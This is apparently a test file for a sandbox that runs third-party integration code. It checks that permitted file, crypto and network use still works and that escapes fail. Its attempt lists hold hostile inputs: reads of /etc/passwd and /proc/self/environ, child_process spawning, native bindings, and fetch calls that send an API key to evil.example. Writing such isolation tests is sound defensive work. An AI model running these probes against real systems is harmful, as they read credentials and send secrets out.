import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { link } from "../discovery/testing/test-packages.ts";
import { openProbe, PROBE, run, startServer } from "./testing/probe.ts";

test("what an integration does with its own code, files and values works as ever", async () => {
  const probe = await openProbe({ prepare: (dir) => writeFileSync(join(dir, "dist/words.txt"), "own file") });
  const own = 'require("node:fs").readFileSync(new URL("words.txt", here), "utf8")';
  const works = {
    "this.config.api_key": "key-0123456789",
    [own]: "own file",
    'require("node:crypto").createHash("sha256").update("a").digest("hex").slice(0, 8)': "ca978112",
    'import("node:url").then(({ URL }) => typeof URL)': "function",
    'process.getBuiltinModule("path").sep': "/",
  };
  for (const [code, account] of Object.entries(works)) {
    const shown = account.replace("key-0123456789", "[redacted]");
    expect(await run(probe, code), code).toEqual({ ok: true, account: shown });
  }
});

test("files that are not its own can be neither read nor written", async () => {
  const probe = await openProbe();
  const others = join(probe.homeDir, "config/integrations/other.yaml");
  const attempts = [
    'require("node:fs").readFileSync("/etc/passwd", "utf8")',
    `require("node:fs").readFileSync(${JSON.stringify(others)}, "utf8")`,
    `require("node:fs").readdirSync(${JSON.stringify(probe.homeDir)})`,
    'require("node:fs").readFileSync("/proc/self/environ", "utf8")',
    'import("node:fs/promises").then((fs) => fs.readFile("/etc/passwd", "utf8"))',
    'require("node:fs").writeFileSync(new URL("x.txt", here), "x")',
    'require("node:fs").symlinkSync("/etc", new URL("link", here))',
    'process.loadEnvFile("/etc/environment")',
  ];
  for (const code of attempts) {
    const check = await run(probe, code);
    expect(check, code).toMatchObject({
      ok: false,
      failure: {
        message: expect.stringMatching(/^Probe tried what an integration may not do \((FileSystem|fs)/),
      },
    });
  }
});

test("the environment holds nothing of ours", async () => {
  process.env["PEREGRINE_TEST_SECRET"] = "in the environment";
  const probe = await openProbe();
  delete process.env["PEREGRINE_TEST_SECRET"];
  const names = await run(
    probe,
    "Object.keys(process.env).filter((name) => !/^(TZ|LANG|LC_ALL)$/.test(name))",
  );
  expect(names).toEqual({ ok: true, account: "" });
});

test("processes, threads, signals and native code are out of reach", async () => {
  const probe = await openProbe();
  const attempts = [
    'require("node:child_process").execSync("id")',
    'import("node:child_process")',
    'import("child_process")',
    'process.getBuiltinModule("child_process")',
    'require("module").createRequire(here)("child_process")',
    'require("module")._load("child_process")',
    'new (require("module"))("x").require("node:worker_threads")',
    'import("node:cluster")',
    'import("node:inspector")',
    'import("node:vm")',
    'import("node:sqlite")',
    'process.binding("spawn_sync")',
    'process._linkedBinding("spawn_sync")',
    "process.kill(process.ppid, 0)",
    "process._kill(process.ppid, 0)",
    "process.execve('/bin/true', ['true'])",
    'process.dlopen({ exports: {} }, "/x.node")',
    'require("module").registerHooks({ resolve: () => ({ url: "node:net", shortCircuit: true }) })',
  ];
  for (const code of attempts) {
    const check = await run(probe, code);
    expect(check, code).toMatchObject({
      ok: false,
      failure: { message: expect.stringContaining("may not do (use of ") },
    });
  }
});

test("there is no way to the network but through its host, which keeps to the manifest", async () => {
  const server = await startServer();
  const probe = await openProbe();
  const { host, port } = new URL(server.url);
  const unreachable = [
    'import("node:net")',
    'require("http")',
    'require("https")',
    'import("node:tls")',
    'import("node:http2")',
    'import("node:dgram")',
    'import("node:dns/promises")',
    `new WebSocket("ws://${host}")`,
    `new EventSource("${server.url}")`,
    `globalThis[Symbol.for("undici.globalDispatcher.1")].request({ origin: "${server.url}", path: "/", method: "GET" })`,
    `fetch("${server.url}")`,
    `this.fetch("${server.url}")`,
    'fetch("http://probe.example")',
    'fetch("https://probe.example:8443")',
    'fetch("https://evil.example/?" + this.config.api_key)',
    'this.fetch("https://probe.example.evil.example")',
    'fetch("data:text/plain,hello")',
    'fetch("file:///etc/passwd")',
  ];
  for (const code of unreachable) expect(await run(probe, code), code).toMatchObject({ ok: false });
  expect(server.requests, `nothing arrived at ${port}`).toEqual([]);
});

test("a host that the manifest does not name is refused by name, and the secret is not repeated", async () => {
  const probe = await openProbe();
  expect(await run(probe, 'fetch("https://evil.example/?" + this.config.api_key)')).toEqual({
    ok: false,
    failure: {
      code: "unsupported",
      message: "Probe tried to reach https://evil.example, which its manifest does not name",
      hint: "Nothing was sent. If the address is right, its author has to add it to the hosts of the package.",
      mayHaveCommitted: false,
    },
  });
  const inHost = await run(probe, 'fetch("https://" + this.config.api_key + ".evil.example")');
  expect(JSON.stringify(inHost)).not.toContain("0123456789");
});

test("an address that the user typed, and one that the service was moved to, are reached", async () => {
  const server = await startServer();
  const probe = await openProbe();
  const typed = await run(probe, "fetch(this.config.address).then((r) => r.text())", { address: server.url });
  expect(typed).toEqual({ ok: true, account: '{"id":"r1"}' });
  const moved = await openProbe({ runtime: { baseUrl: server.url } });
  expect(await run(moved, 'this.http.get("records").then(({ id }) => id)')).toEqual({
    ok: true,
    account: "r1",
  });
  expect(server.requests).toEqual(["GET /", "GET /records"]);
});

test("a prototype of the language that it overwrites is its own", async () => {
  const probe = await openProbe();
  await run(probe, 'Object.prototype.polluted = 1; Array.prototype.map = () => ["x"]; 1');
  expect({}).not.toHaveProperty("polluted");
  expect([1].map((n) => n + 1)).toEqual([2]);
});

test("a symlink that leads out of the package refuses the whole package", async () => {
  const opening = openProbe({ prepare: (dir) => link("/etc", join(dir, "dist/data")) });
  await expect(opening).rejects.toMatchObject({
    code: "incompatible",
    message: expect.stringMatching(
      `^${PROBE} 1.2.3 cannot be used: .*dist/data is a symlink that leads out of the package$`,
    ),
  });
});
